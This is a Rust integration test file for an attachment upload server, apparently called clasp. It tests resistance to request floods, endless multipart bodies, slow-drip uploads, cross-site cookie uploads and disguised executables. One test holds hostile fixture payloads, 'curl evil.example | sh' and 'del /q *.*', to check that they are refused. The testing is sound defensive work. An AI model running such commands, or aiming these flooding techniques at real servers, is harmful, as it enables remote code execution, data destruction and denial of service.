//! The trust boundary, tried as an attacker would against the built binary:
//! floods that must not grow memory or the metrics page, bodies that never
//! end a multipart header, and credentials refused before a byte of the body
//! is read. `docs/reliability.md` records the figures these tests print.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use crate::harness::{
    Server, Workdir, answer, client, connect, fetch, form, proc_status, upload_and_sign,
    write_chunk,
};

const TICKET: &str = "550e8400-e29b-41d4-a716-446655440000";
const KIB: u64 = 1024;
const MIB: u64 = 1024 * KIB;

/// The server's resident memory, in bytes.
fn rss(server: &Server) -> u64 {
    proc_status(server.pid(), "VmRSS") * KIB
}

/// The size of `/metrics`, in bytes.
async fn metrics_size(server: &Server) -> usize {
    server.metrics().await.len()
}

/// Sends `count` requests, each with a method of its own of about 40 KiB,
/// numbered from `first`.
fn invented_methods(server: &Server, first: u32, count: u32) {
    for i in first..first + count {
        let method: String = format!("M{i:05}")
            .chars()
            .chain(std::iter::repeat_n('X', 40 * 1024))
            .collect();
        let mut stream = connect(server);
        let head =
            format!("{method} /healthz HTTP/1.1\r\nHost: clasp\r\nConnection: close\r\n\r\n");
        if stream.write_all(head.as_bytes()).is_ok() {
            let _ = answer(&mut stream);
        }
    }
}

#[tokio::test]
async fn a_flood_of_invented_methods_grows_neither_memory_nor_the_metrics_page() {
    let work = Workdir::new();
    let server = Arc::new(Server::start(&work));
    // The first invented methods make the one label set they all share
    // (`method="other"`); after them, the page and the memory must stay put.
    let warming = Arc::clone(&server);
    tokio::task::spawn_blocking(move || invented_methods(&warming, 0, 20))
        .await
        .unwrap();
    // (the page counts the requests for it too: once counted, its size holds)
    metrics_size(&server).await;
    let page_before = metrics_size(&server).await;
    let rss_before = rss(&server);
    let flooding = Arc::clone(&server);
    tokio::task::spawn_blocking(move || invented_methods(&flooding, 20, 1500))
        .await
        .unwrap();
    let page_after = metrics_size(&server).await;
    let rss_after = rss(&server);
    println!(
        "method flood: 1500 requests of 40 KiB invented methods: /metrics {page_before} -> {page_after} bytes, \
         RSS {} -> {} MiB",
        rss_before / MIB,
        rss_after / MIB
    );
    let page = server.metrics().await;
    assert!(
        page.contains("method=\"other\",status=\"405\""),
        "the invented methods were answered and counted as `other`:\n{page}"
    );
    assert!(
        page_after < page_before + 256,
        "/metrics grew from {page_before} to {page_after} bytes"
    );
    assert!(
        rss_after < rss_before + 16 * MIB,
        "RSS grew from {} to {} MiB",
        rss_before / MIB,
        rss_after / MIB
    );
}

/// Sends a chunked multipart upload whose body is `head` and then `filler`
/// forever; returns the answer and how many bytes were sent by then.
fn endless_upload(server: &Server, key: &str, head: &[u8], filler: u8) -> (String, u64) {
    let mut stream = connect(server);
    let addr = server.base.trim_start_matches("http://");
    let request = format!(
        "POST /v1/tickets/{TICKET}/attachments HTTP/1.1\r\nHost: {addr}\r\nAuthorization: Bearer {key}\r\n\
         Content-Type: multipart/form-data; boundary=BOUNDARY\r\nTransfer-Encoding: chunked\r\n\r\n"
    );
    stream.write_all(request.as_bytes()).unwrap();
    if !head.is_empty() {
        // (an empty chunk would end the body)
        write_chunk(&mut stream, head).unwrap();
    }
    let sent = Arc::new(AtomicU64::new(head.len() as u64));
    let mut writer_stream = stream.try_clone().unwrap();
    let counted = Arc::clone(&sent);
    let writer = std::thread::spawn(move || {
        let block = vec![filler; 64 * 1024];
        while counted.load(Ordering::SeqCst) < 300 * MIB {
            if write_chunk(&mut writer_stream, &block).is_err() {
                return;
            }
            counted.fetch_add(block.len() as u64, Ordering::SeqCst);
        }
    });
    let said = answer(&mut stream);
    let at_answer = sent.load(Ordering::SeqCst);
    drop(stream);
    let _ = writer.join();
    (said, at_answer)
}

#[test]
fn endless_part_headers_and_preambles_are_cut_off_without_buffering_them() {
    let work = Workdir::new();
    let key = work.tenant_with_key("ws-1", "attachments:write");
    let server = Server::start(&work);
    let rss_before = rss(&server);
    let cases: [(&str, &[u8], u8); 3] = [
        (
            "a part header that never ends",
            b"--BOUNDARY\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.png\"\r\nX-Junk: ",
            b'a',
        ),
        ("a body without any boundary", b"", b'b'),
        (
            "a preamble that never ends",
            b"this is the preamble, and it goes on ",
            b'-',
        ),
    ];
    for (what, head, filler) in cases {
        let started = Instant::now();
        let (said, sent) = endless_upload(&server, &key, head, filler);
        println!(
            "{what}: answered after {} KiB in {:.1} s: {}",
            sent / KIB,
            started.elapsed().as_secs_f64(),
            said.lines().next().unwrap_or_default()
        );
        assert!(said.starts_with("HTTP/1.1 400"), "{what}: {said}");
        assert!(said.contains("invalid_request"), "{what}: {said}");
        // The server gives up after 16 KiB (MAX_HEAD_BYTES); what the writer
        // got out before the answer was read is that plus loopback's socket
        // buffers (several MiB each way) and whatever it wrote while the
        // client's reader thread waited for a core: on a busy 2-core machine up
        // to ~17 MiB was seen. The peak RSS below is what shows nothing was kept.
        assert!(
            sent < 64 * MIB,
            "{what}: answered only after {} MiB",
            sent / MIB
        );
    }
    let peak = proc_status(server.pid(), "VmHWM") * KIB;
    println!(
        "endless heads: RSS {} MiB before, peak {} MiB",
        rss_before / MIB,
        peak / MIB
    );
    assert!(
        peak < rss_before + 32 * MIB,
        "peak RSS {} MiB from {} MiB",
        peak / MIB,
        rss_before / MIB
    );
}

#[test]
fn a_read_only_key_s_upload_is_refused_before_its_body() {
    let work = Workdir::new();
    let key = work.tenant_with_key("ws-1", "attachments:read");
    let server = Server::start(&work);
    let addr = server.base.trim_start_matches("http://").to_owned();
    for (path, extra) in [
        (format!("/v1/tickets/{TICKET}/attachments"), ""),
        ("/api-public/1.0/save_file".to_owned(), ""),
        (
            format!("/v1/workspaces/ws-1/tickets/{TICKET}/attachments/upload-url"),
            "x-workspace-id: ws-1\r\n",
        ),
    ] {
        let mut stream = connect(&server);
        let content_type = if path.contains("upload-url") {
            "application/json"
        } else {
            "multipart/form-data; boundary=BOUNDARY"
        };
        // a 1 MiB body is announced, and not one byte of it is sent
        let head = format!(
            "POST {path} HTTP/1.1\r\nHost: {addr}\r\nAuthorization: Bearer {key}\r\n{extra}\
             Content-Type: {content_type}\r\nContent-Length: {}\r\n\r\n",
            MIB
        );
        stream.write_all(head.as_bytes()).unwrap();
        stream
            .set_read_timeout(Some(Duration::from_secs(5)))
            .unwrap();
        let started = Instant::now();
        let said = answer(&mut stream);
        assert!(said.starts_with("HTTP/1.1 403"), "{path}: {said:?}");
        assert!(
            said.contains("insufficient_scope") || said.contains("forbidden"),
            "{path}: {said}"
        );
        assert!(started.elapsed() < Duration::from_secs(5), "{path}");
    }
}

#[tokio::test]
async fn a_page_of_another_site_cannot_upload_or_delete_with_the_session_cookie() {
    let work = Workdir::new()
        .with_env("CLASP_CORS_ALLOWED_ORIGINS", "https://app.example")
        .with_env("CLASP_PUBLIC_URL", "https://clasp.example");
    work.admin(&["admin", "tenant", "create", "--slug", "ws-1"]);
    let session = work.admin(&[
        "admin", "session", "create", "--tenant", "ws-1", "--user", "42",
    ]);
    let server = Server::start(&work);
    let cookie = format!("clasp_session={session}");
    let upload = |origin: Option<&str>| {
        let mut req = client()
            .post(server.url("/api/v1/messages/7/attachments"))
            .header("Cookie", &cookie)
            .multipart(form("files", "a.txt", "text/plain", b"hello".to_vec()));
        if let Some(origin) = origin {
            req = req.header("Origin", origin);
        }
        req.send()
    };
    for origin in ["https://evil.example", "null"] {
        let res = upload(Some(origin)).await.unwrap();
        assert_eq!(res.status(), reqwest::StatusCode::FORBIDDEN, "{origin}");
    }
    let res = client()
        .post(server.url("/api/v1/messages/7/attachments"))
        .header("Cookie", &cookie)
        .header("Sec-Fetch-Site", "cross-site")
        .multipart(form("files", "a.txt", "text/plain", b"hello".to_vec()))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), reqwest::StatusCode::FORBIDDEN);
    for origin in [
        None,
        Some("https://app.example"),
        Some("https://clasp.example"),
    ] {
        let res = upload(origin).await.unwrap();
        assert_eq!(res.status(), reqwest::StatusCode::OK, "{origin:?}");
    }
    let delete = |origin: &'static str| {
        client()
            .delete(server.url("/api/v1/attachments/1"))
            .header("Cookie", &cookie)
            .header("Origin", origin)
            .send()
    };
    let res = delete("https://evil.example").await.unwrap();
    assert_eq!(res.status(), reqwest::StatusCode::FORBIDDEN);
    let res = delete("https://app.example").await.unwrap();
    assert_eq!(res.status(), reqwest::StatusCode::OK);
}

#[tokio::test]
async fn an_executable_declared_as_text_is_refused_and_a_text_named_exe_is_renamed() {
    let work = Workdir::new();
    let key = work.tenant_with_key("ws-1", "attachments:read,attachments:write");
    let session = work.admin(&[
        "admin", "session", "create", "--tenant", "ws-1", "--user", "42",
    ]);
    let server = Server::start(&work);
    let c = client();
    let mut program = b"MZ".to_vec();
    program.resize(64, 0x90);
    program.extend_from_slice(b"PE\0\0 this program cannot be run in DOS mode");
    let scripts: [(&str, Vec<u8>); 3] = [
        ("invoice.exe", program),
        (
            "invoice.txt",
            b"#!/bin/sh\ncurl evil.example | sh\n".to_vec(),
        ),
        ("invoice.txt", b"@echo off\r\ndel /q *.*\r\n".to_vec()),
    ];
    for (name, bytes) in &scripts {
        let res = c
            .post(server.url(&format!("/v1/tickets/{TICKET}/attachments")))
            .bearer_auth(&key)
            .multipart(form("file", name, "text/plain", bytes.clone()))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), reqwest::StatusCode::BAD_REQUEST, "{name}");
        let body: serde_json::Value = res.json().await.unwrap();
        assert_eq!(body["error"], "invalid_file_type", "{name}: {body}");
        let res = c
            .post(server.url("/api/v1/messages/7/attachments"))
            .header("Cookie", format!("clasp_session={session}"))
            .multipart(form("files", name, "text/plain", bytes.clone()))
            .send()
            .await
            .unwrap();
        assert_eq!(
            res.status(),
            reqwest::StatusCode::UNSUPPORTED_MEDIA_TYPE,
            "{name}"
        );
    }
    assert!(work.blob_files().is_empty(), "no byte of a program is kept");

    // Plain text under a program's name is kept, and served as text.
    let id = crate::harness::upload_to_ticket(
        &c,
        &server,
        &key,
        TICKET,
        form(
            "file",
            "invoice.exe",
            "text/plain",
            b"Total: 42 EUR\n".to_vec(),
        ),
    )
    .await;
    let url = format!("/v1/tickets/{TICKET}/attachments/{id}");
    let got: serde_json::Value = c
        .get(server.url(&url))
        .bearer_auth(&key)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(got["filename"], "invoice.txt", "{got}");
    let signed: serde_json::Value = c
        .get(server.url(&format!("{url}/download")))
        .bearer_auth(&key)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let res = c
        .get(signed["signed_url"].as_str().unwrap())
        .send()
        .await
        .unwrap();
    let disposition = res.headers()["content-disposition"]
        .to_str()
        .unwrap()
        .to_owned();
    assert_eq!(disposition, "attachment; filename=\"invoice.txt\"");
}

/// Opens a tickets upload on `key` that announces a large body and sends only
/// its first bytes: an upload that holds its slot while it drips.
fn dripping_upload(server: &Server, key: &str) -> TcpStream {
    let mut stream = connect(server);
    let addr = server.base.trim_start_matches("http://");
    let head = format!(
        "POST /v1/tickets/{TICKET}/attachments HTTP/1.1\r\nHost: {addr}\r\nAuthorization: Bearer {key}\r\n\
         Content-Type: multipart/form-data; boundary=BOUNDARY\r\nContent-Length: 1000000\r\n\r\n--BOUNDARY\r\n"
    );
    stream.write_all(head.as_bytes()).unwrap();
    stream
}

/// What the server has answered on `stream` so far, without waiting.
fn answered_yet(stream: &mut TcpStream) -> String {
    stream.set_nonblocking(true).unwrap();
    let mut buf = vec![0u8; 4096];
    let n = stream.read(&mut buf).unwrap_or(0);
    stream.set_nonblocking(false).unwrap();
    String::from_utf8_lossy(&buf[..n]).into_owned()
}

/// One tenant opens 210 uploads over three keys that drip their bodies, on the
/// default limits (256 slots, 128 a tenant, 64 a credential): the first key
/// gets its 64, the second too (the tenant's 128), the rest are answered 503 at
/// once, and another tenant's upload still goes through.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_tenant_s_slow_uploads_leave_slots_for_another() {
    let work = Workdir::new();
    let mut keys = vec![work.tenant_with_key("drip", "attachments:write")];
    for _ in 0..3 {
        keys.push(work.admin(&[
            "admin",
            "key",
            "create",
            "--tenant",
            "drip",
            "--scopes",
            "attachments:write",
        ]));
    }
    let other = work.tenant_with_key("other", "attachments:write");
    let server = Server::start(&work);

    let mut drips: Vec<TcpStream> = Vec::new();
    for key in &keys[..3] {
        for _ in 0..70 {
            drips.push(dripping_upload(&server, key));
        }
    }
    tokio::time::sleep(Duration::from_secs(2)).await;
    let (mut refused, mut held) = (0, Vec::new());
    for mut stream in drips {
        let said = answered_yet(&mut stream);
        if said.is_empty() {
            held.push(stream);
        } else {
            assert!(said.starts_with("HTTP/1.1 503"), "{said}");
            assert!(said.contains("retry-after: 1"), "{said}");
            assert!(said.contains("too_many_uploads"), "{said}");
            refused += 1;
        }
    }
    println!(
        "slow uploads: {} held, {refused} refused at once",
        held.len()
    );
    assert_eq!(held.len(), 128, "the tenant's share");
    assert_eq!(refused, 82);
    // the held uploads are alive: they drip
    for stream in &mut held {
        stream.write_all(b"x").unwrap();
    }

    let c = client();
    let url = server.url(&format!("/v1/tickets/{TICKET}/attachments"));
    let upload = |key: &str| {
        c.post(&url)
            .bearer_auth(key)
            .multipart(form("file", "a.txt", "text/plain", b"hello".to_vec()))
            .send()
    };
    let res = upload(&other).await.unwrap();
    assert_eq!(res.status(), 201, "another tenant uploads");
    let res = upload(&keys[3]).await.unwrap();
    assert_eq!(res.status(), 503, "a fourth key of the same tenant waits");
    assert_eq!(res.headers()["retry-after"], "1");

    drop(held);
    tokio::time::sleep(Duration::from_millis(500)).await;
    let res = upload(&keys[3]).await.unwrap();
    assert_eq!(res.status(), 201, "the shares were given back");
}

/// An upload that sends a byte every 400 ms never goes idle, and is cut off
/// at `upload_deadline_secs` all the same.
#[test]
fn a_steady_drip_is_cut_off_at_the_upload_deadline() {
    let work = Workdir::new().with_env("CLASP_UPLOAD_DEADLINE_SECS", "3");
    let key = work.tenant_with_key("ws-1", "attachments:write");
    let server = Server::start(&work);
    let started = Instant::now();
    let mut stream = dripping_upload(&server, &key);
    let mut dripper = stream.try_clone().unwrap();
    let drip = std::thread::spawn(move || {
        let part = b"Content-Disposition: form-data; name=\"file\"; filename=\"a.txt\"\r\n\r\n";
        let mut bytes = part.iter().chain(std::iter::repeat(&b'x'));
        while started.elapsed() < Duration::from_secs(15) {
            let byte = *bytes.next().unwrap();
            if dripper.write_all(&[byte]).is_err() {
                return;
            }
            std::thread::sleep(Duration::from_millis(400));
        }
    });
    let said = answer(&mut stream);
    let took = started.elapsed();
    drop(stream);
    let _ = drip.join();
    println!(
        "steady drip: answered after {:.1} s: {}",
        took.as_secs_f64(),
        said.lines().next().unwrap_or_default()
    );
    assert!(said.starts_with("HTTP/1.1 400"), "{said}");
    assert!(took >= Duration::from_millis(2900), "{took:?}");
    assert!(took < Duration::from_secs(10), "{took:?}");
    assert!(work.blob_files().is_empty(), "nothing kept");
}

/// The signing secret is rotated in two restarts: the old one moves to
/// `signing_secret_previous` (its URLs keep working beside the new one's),
/// then is dropped (its URLs stop working; the new one's do not).
#[tokio::test]
async fn a_rotated_signing_secret_honours_its_urls_until_it_is_dropped() {
    let old = "the-old-signing-secret-0123456789abcdef";
    let new = "the-new-signing-secret-0123456789abcdef";
    let work = Workdir::new().with_env("CLASP_SIGNING_SECRET", old);
    let key = work.tenant_with_key("ws-1", "attachments:read,attachments:write");
    let server = Server::start(&work);
    let signed = upload_and_sign(&server, &key, "old.txt", "text/plain", b"old").await;
    let old_url = signed[signed.find("/signed/").unwrap()..].to_owned();
    server.stop();

    let work = work
        .with_env("CLASP_SIGNING_SECRET", new)
        .with_env("CLASP_SIGNING_SECRET_PREVIOUS", old);
    let server = Server::start(&work);
    let c = client();
    assert_eq!(
        fetch(&c, &server.url(&old_url)).await,
        (reqwest::StatusCode::OK, b"old".to_vec()),
        "signed by the previous secret"
    );
    let signed = upload_and_sign(&server, &key, "new.txt", "text/plain", b"new").await;
    let new_url = signed[signed.find("/signed/").unwrap()..].to_owned();
    server.stop();

    let work = work.with_env("CLASP_SIGNING_SECRET_PREVIOUS", "");
    let server = Server::start(&work);
    let (status, _) = fetch(&c, &server.url(&old_url)).await;
    assert_eq!(
        status,
        reqwest::StatusCode::FORBIDDEN,
        "its secret was dropped"
    );
    assert_eq!(
        fetch(&c, &server.url(&new_url)).await,
        (reqwest::StatusCode::OK, b"new".to_vec())
    );
}
